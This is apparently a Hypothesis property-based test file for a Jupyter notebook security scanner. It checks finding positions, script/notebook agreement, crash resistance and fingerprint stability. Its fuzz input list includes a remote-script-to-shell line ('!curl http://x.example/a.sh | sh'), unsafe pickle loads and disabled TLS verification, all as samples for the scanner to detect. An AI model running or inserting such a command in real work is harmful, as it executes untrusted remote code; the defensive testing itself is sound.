"""Laws that hold for every notebook, whatever is in it."""

from __future__ import annotations

import json
from itertools import pairwise
from typing import Any

from hypothesis import example, given, settings
from hypothesis import strategies as st

from jupyter_mlsec.config.settings import Config
from jupyter_mlsec.model.finding import Finding, Outcome, TargetReport
from jupyter_mlsec.model.notebook import Notebook
from jupyter_mlsec.model.text import line_starts
from jupyter_mlsec.notebook.read import read_notebook
from jupyter_mlsec.scan.engine import scan_document, scan_script

# Pieces that rules react to, mixed with what breaks readers: half code, magics, quotes, odd line ends and characters.
PIECES = st.sampled_from(
    [
        "import pickle\n",
        "pickle.load(f)\n",
        "from torch import load as l\r\n",
        "l('x')\r",
        "x = (",
        ")",
        '"""',
        "%%bash\n",
        "!curl http://x.example/a.sh | sh\n",
        "%pip install y\n",
        "password = '" + "k9" + "#Lw" * 4 + "'\n",
        "requests.get(u, verify=False)\n",
        "# mlsec: allow[unsafe-pickle-load] why\n",
        "\x00",
        "\u2028",
        "é\u0301",
        "\U0001f600",
        "\t",
        "  ",
        "\n",
    ]
)
SOURCES = st.lists(PIECES, max_size=14).map("".join)
JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=30) | SOURCES,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4),
    max_leaves=12,
)


def document(sources: list[str]) -> dict[str, Any]:
    cells = [{"cell_type": "code", "metadata": {}, "outputs": [], "source": source} for source in sources]
    return {"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": cells}


def shape(finding: Finding) -> tuple[object, ...]:
    return (finding.rule, finding.position, finding.severity, finding.message)


def text_lines(notebook: Notebook, finding: Finding) -> list[str]:
    assert finding.cell is not None
    content = notebook.cells[finding.cell.index].source.content
    starts = (*line_starts(content), len(content))
    return [content[start:end] for start, end in pairwise(starts)]


@settings(deadline=None)
@example(["\u2028)"])
@given(st.lists(SOURCES, max_size=5))
def test_every_location_lies_inside_its_cell(sources: list[str]) -> None:
    notebook = read_notebook("x.ipynb", document(sources))
    report = scan_document("x.ipynb", document(sources), Config())
    assert report.outcome is Outcome.CHECKED
    for finding in report.findings:
        lines, at = text_lines(notebook, finding), finding.position
        assert (1, 1) <= (at.line, at.column) < (at.end_line, at.end_column)
        assert at.end_line <= len(lines)
        assert at.column <= len(lines[at.line - 1]) + 1
        assert at.end_column <= len(lines[at.end_line - 1]) + 1


@settings(deadline=None)
@given(SOURCES)
def test_a_script_and_a_notebook_of_one_cell_agree(source: str) -> None:
    cell = scan_document("x.ipynb", document([source]), Config())
    script = scan_script("x.py", source.encode(), Config())
    assert [*map(shape, script.findings)] == [*map(shape, cell.findings)]


@settings(deadline=None)
@given(st.binary(max_size=200) | JSON.map(lambda value: json.dumps(value).encode()))
def test_no_bytes_end_in_an_exception_and_none_that_are_no_notebook_are_clean(data: bytes) -> None:
    report: TargetReport = scan_document("x.ipynb", data, Config())
    assert report.outcome is Outcome.NOT_CHECKED
    assert report.reason


@settings(deadline=None)
@given(st.dictionaries(st.sampled_from(["cell_type", "source", "outputs", "metadata", "attachments", "id"]), JSON))
def test_no_cell_ends_in_an_exception(cell: dict[str, Any]) -> None:
    data = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}).encode()
    report = scan_document("x.ipynb", data, Config())
    assert (report.outcome is Outcome.CHECKED) is (report.reason is None)


@settings(deadline=None)
@given(st.lists(SOURCES, min_size=1, max_size=4), st.randoms(use_true_random=False))
def test_fingerprints_stay_when_a_markdown_cell_is_put_in_between(sources: list[str], random: Any) -> None:
    before = document(sources)
    after = document(sources)
    note = {"cell_type": "markdown", "metadata": {}, "source": "# a note"}
    after["cells"].insert(random.randint(0, len(sources)), note)
    first, second = (scan_document("x", each, Config()) for each in (before, after))
    assert {finding.fingerprint for finding in first.findings} == {finding.fingerprint for finding in second.findings}
